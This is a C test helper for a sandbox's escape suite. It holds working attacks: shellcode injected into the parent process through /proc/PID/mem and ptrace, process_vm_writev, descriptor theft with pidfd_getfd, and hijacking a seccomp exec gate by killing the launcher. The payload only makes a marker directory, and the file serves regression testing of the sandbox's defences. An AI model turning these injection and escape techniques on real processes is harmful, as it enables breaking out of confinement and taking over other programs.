// SPDX-License-Identifier: GPL-2.0-only
/*
 * escape ATTACK MARKER: what a confined program does to get out, for the
 * escape suite (tests/escape.sh). Each attack's goal is code of its own
 * running outside the sandbox; the proof it wants is MARKER, a directory
 * that the planted code makes with mkdir(2). The test asserts that the
 * directory does not exist; a run against an unprotected parent (victim)
 * shows that the same attack does make it.
 *
 *   mem      write code at the parent's PC through /proc/PPID/mem
 *   memof PID MARKER: the same into PID, from outside the sandbox
 *   ptrace   attach to the parent, write the code with POKETEXT, detach
 *   vmwrite  process_vm_writev into the parent (no marker: prints errno)
 *   getfd    pidfd_getfd the parent's descriptors (prints what it got)
 *   listener kill the parent, answer its exec gate with a listener of ours
 *   eintr    mkdir under a storm of SIGALRM without SA_RESTART
 *   tracer   a child of ours calls mkdir; we, its tracer, suppress SIGSYS
 *
 * It prints one line per step ("mem: open: EACCES"), so a test can see
 * how far it got.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <poll.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *err_name(int err)
{
	static char buf[32];

	switch (err) {
	case EPERM:
		return "EPERM";
	case EACCES:
		return "EACCES";
	case ENOSYS:
		return "ENOSYS";
	case ESRCH:
		return "ESRCH";
	case EBADF:
		return "EBADF";
	case EINVAL:
		return "EINVAL";
	case EINTR:
		return "EINTR";
	case EBUSY:
		return "EBUSY";
	}
	snprintf(buf, sizeof(buf), "errno%d", err);
	return buf;
}

static void put32(unsigned char *p, uint32_t v)
{
	memcpy(p, &v, sizeof(v));
}

/*
 * x86_64 code, position-independent: mkdir(MARKER, 0700), then
 * exit_group(42). The syscall numbers come from the headers.
 */
static size_t shellcode(unsigned char *buf, size_t len, const char *marker)
{
	size_t n = 0, disp_at, after_lea, mlen = strlen(marker) + 1;

	if (len < 40 + mlen)
		exit(2);
	buf[n++] = 0x48;
	buf[n++] = 0x8d;
	buf[n++] = 0x3d; /* lea rdi,[rip+d] */
	disp_at = n;
	n += 4;
	after_lea = n;
	buf[n++] = 0xbe;
	put32(buf + n, 0700);
	n += 4; /* mov esi, 0700 */
	buf[n++] = 0xb8;
	put32(buf + n, SYS_mkdir);
	n += 4; /* mov eax, mkdir */
	buf[n++] = 0x0f;
	buf[n++] = 0x05; /* syscall */
	buf[n++] = 0xbf;
	put32(buf + n, 42);
	n += 4; /* mov edi, 42 */
	buf[n++] = 0xb8;
	put32(buf + n, SYS_exit_group);
	n += 4;
	buf[n++] = 0x0f;
	buf[n++] = 0x05;
	put32(buf + disp_at, (uint32_t)(n - after_lea));
	memcpy(buf + n, marker, mlen);
	return n + mlen;
}

/* The parent's PC while it sleeps in a syscall (/proc/PID/syscall). */
static int sleeping_pc(pid_t pid, unsigned long *pc)
{
	char path[64], line[512], *last;
	int i, fd;
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/syscall", pid);
	for (i = 0; i < 2000; i++) {
		fd = open(path, O_RDONLY);
		if (fd < 0)
			return -errno;
		n = read(fd, line, sizeof(line) - 1);
		close(fd);
		if (n < 0)
			return -errno;
		line[n] = '\0';
		if (strncmp(line, "running", 7) && strncmp(line, "-1 ", 3)) {
			last = strrchr(line, ' ');
			if (last) {
				*pc = strtoul(last + 1, NULL, 16);
				return 0;
			}
		}
		usleep(1000);
	}
	return -EAGAIN;
}

static int attack_mem(pid_t ppid, const char *marker)
{
	unsigned char code[512];
	unsigned long pc = 0;
	char path[64];
	size_t n = shellcode(code, sizeof(code), marker);
	int fd, err;

	err = sleeping_pc(ppid, &pc);
	if (err) {
		printf("mem: syscall: %s\n", err_name(-err));
		return 0;
	}
	snprintf(path, sizeof(path), "/proc/%d/mem", ppid);
	fd = open(path, O_RDWR);
	if (fd < 0) {
		printf("mem: open: %s\n", err_name(errno));
		return 0;
	}
	if (pwrite(fd, code, n, (off_t)pc) != (ssize_t)n) {
		printf("mem: write: %s\n", err_name(errno));
		return 0;
	}
	printf("mem: written at %#lx\n", pc);
	fflush(stdout);
	return 0; /* our exit wakes the parent into the code */
}

static int attack_ptrace(const char *marker)
{
	pid_t ppid = getppid();
	unsigned char code[512];
	size_t n = shellcode(code, sizeof(code), marker), i;
	struct user_regs_struct regs;
	int status;

	if (ptrace(PTRACE_ATTACH, ppid, 0, 0) < 0) {
		printf("ptrace: attach: %s\n", err_name(errno));
		return 0;
	}
	if (waitpid(ppid, &status, __WALL) != ppid ||
	    ptrace(PTRACE_GETREGS, ppid, 0, &regs) < 0) {
		printf("ptrace: regs: %s\n", err_name(errno));
		return 0;
	}
	for (i = 0; i < n; i += sizeof(long)) {
		long word;

		memcpy(&word, code + i, sizeof(word));
		if (ptrace(PTRACE_POKETEXT, ppid, regs.rip + i, word) < 0) {
			printf("ptrace: poke: %s\n", err_name(errno));
			return 0;
		}
	}
	/* no restart of the interrupted syscall: straight into the code */
	regs.orig_rax = (unsigned long)-1;
	ptrace(PTRACE_SETREGS, ppid, 0, &regs);
	/* said first: the parent may be gone, and we with it, right after */
	printf("ptrace: written at %#llx\n", regs.rip);
	fflush(stdout);
	ptrace(PTRACE_DETACH, ppid, 0, 0);
	return 0;
}

static int attack_vmwrite(void)
{
	char byte = 0;
	struct iovec local = { &byte, 1 };
	/* anywhere: the permission check comes before the address */
	struct iovec remote = { (void *)0x10000, 1 };

	if (process_vm_writev(getppid(), &local, 1, &remote, 1, 0) < 0)
		printf("vmwrite: %s\n", err_name(errno));
	else
		printf("vmwrite: written\n");
	return 0;
}

static int attack_getfd(void)
{
	int pidfd = (int)syscall(SYS_pidfd_open, getppid(), 0), fd, got = 0;

	if (pidfd < 0) {
		printf("getfd: pidfd_open: %s\n", err_name(errno));
		return 0;
	}
	for (fd = 0; fd < 64; fd++) {
		int mine = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);

		if (mine >= 0) {
			got++;
			close(mine);
		} else if (errno != EBADF) {
			printf("getfd: %d: %s\n", fd, err_name(errno));
			return 0;
		}
	}
	printf("getfd: took %d descriptors\n", got);
	return 0;
}

/* A filter of ours that sends execve to us; its listener, or -1. */
static int execve_listener(unsigned long op)
{
	struct sock_filter f[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS,
			 offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_execve, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog prog = { 4, f };

	return (int)syscall(SYS_seccomp, op, SECCOMP_FILTER_FLAG_NEW_LISTENER,
			    &prog);
}

/* Answers "continue" to every notification until CHILD has ended. */
static void answer_all(int fd, pid_t child)
{
	struct seccomp_notif n;
	struct seccomp_notif_resp r;
	struct pollfd p = { .fd = fd, .events = POLLIN };
	int status;

	while (waitpid(child, &status, WNOHANG) == 0) {
		if (poll(&p, 1, 100) <= 0)
			continue;
		memset(&n, 0, sizeof(n));
		if (ioctl(fd, SECCOMP_IOCTL_NOTIF_RECV, &n) < 0)
			continue;
		memset(&r, 0, sizeof(r));
		r.id = n.id;
		r.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
		ioctl(fd, SECCOMP_IOCTL_NOTIF_SEND, &r);
	}
}

/*
 * The exec gate hijacked: the launcher killed, a listener of ours
 * answers the gate's execve (the newest filter's listener is asked). The
 * work is a grandchild's, which outlives the launcher (no parent-death
 * signal). Under --no-exec, "listener: exec ran" must never be printed.
 */
static int attack_listener(void)
{
	pid_t launcher = getppid(), child;
	int fd = -1, i;
	static const unsigned long ops[] = {
		/* an upper half the kernel ignores (op is unsigned int) */
		SECCOMP_SET_MODE_FILTER | (1UL << 32),
		SECCOMP_SET_MODE_FILTER,
	};

	if (fork() != 0) {
		pause(); /* dies with the launcher */
		return 0;
	}
	if (kill(launcher, SIGKILL) < 0)
		printf("listener: kill: %s\n", err_name(errno));
	else
		printf("listener: killed the launcher\n");
	/* its listener is released as it exits */
	while (kill(launcher, 0) == 0 && getppid() != 1)
		usleep(1000);
	usleep(100000);
	for (i = 0; i < 2 && fd < 0; i++) {
		fd = execve_listener(ops[i]);
		printf("listener: op %#lx: %s\n", ops[i],
		       fd >= 0 ? "got a listener" : err_name(errno));
	}
	child = fork();
	if (child == 0) {
		execl("/bin/echo", "echo", "listener: exec ran", (char *)NULL);
		printf("listener: exec: %s\n", err_name(errno));
		_exit(0);
	}
	if (fd >= 0)
		answer_all(fd, child);
	else
		waitpid(child, NULL, 0);
	printf("listener: done\n");
	return 0;
}

static void on_alarm(int sig)
{
	(void)sig;
}

static int attack_eintr(const char *marker)
{
	struct sigaction sa = { .sa_handler = on_alarm }; /* no SA_RESTART */
	struct itimerval storm = { { 0, 50 }, { 0, 50 } };

	sigaction(SIGALRM, &sa, NULL);
	setitimer(ITIMER_REAL, &storm, NULL);
	if (mkdir(marker, 0700) == 0)
		printf("eintr: mkdir ran\n");
	else
		printf("eintr: survived: %s\n", err_name(errno));
	return 0;
}

static int attack_tracer(const char *marker)
{
	int status;
	pid_t pid = fork();

	if (pid == 0) {
		ptrace(PTRACE_TRACEME, 0, 0, 0);
		raise(SIGSTOP);
		if (mkdir(marker, 0700) == 0)
			printf("tracer: mkdir ran\n");
		else
			printf("tracer: survived: %s\n", err_name(errno));
		fflush(stdout);
		_exit(0);
	}
	waitpid(pid, &status, 0);
	ptrace(PTRACE_CONT, pid, 0, 0);
	/* every signal it would get, suppressed */
	while (waitpid(pid, &status, 0) == pid && WIFSTOPPED(status))
		ptrace(PTRACE_CONT, pid, 0, 0);
	if (WIFSIGNALED(status))
		printf("tracer: child killed by signal %d\n", WTERMSIG(status));
	else
		printf("tracer: child exited %d\n", WEXITSTATUS(status));
	return 0;
}

int main(int argc, char **argv)
{
	const char *a = argc > 1 ? argv[1] : "";
	const char *marker = argc > 2 ? argv[2] : "";

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (!strcmp(a, "mem") && argc == 3)
		return attack_mem(getppid(), marker);
	/* from outside: root's planting, which the launcher's filter meets */
	if (!strcmp(a, "memof") && argc == 4)
		return attack_mem(atoi(argv[2]), argv[3]);
	if (!strcmp(a, "ptrace") && argc == 3)
		return attack_ptrace(marker);
	if (!strcmp(a, "vmwrite"))
		return attack_vmwrite();
	if (!strcmp(a, "getfd"))
		return attack_getfd();
	if (!strcmp(a, "listener"))
		return attack_listener();
	if (!strcmp(a, "eintr") && argc == 3)
		return attack_eintr(marker);
	if (!strcmp(a, "tracer") && argc == 3)
		return attack_tracer(marker);
	fprintf(stderr,
		"usage: escape mem|ptrace|eintr|tracer MARKER | vmwrite | getfd | listener\n");
	return 2;
}
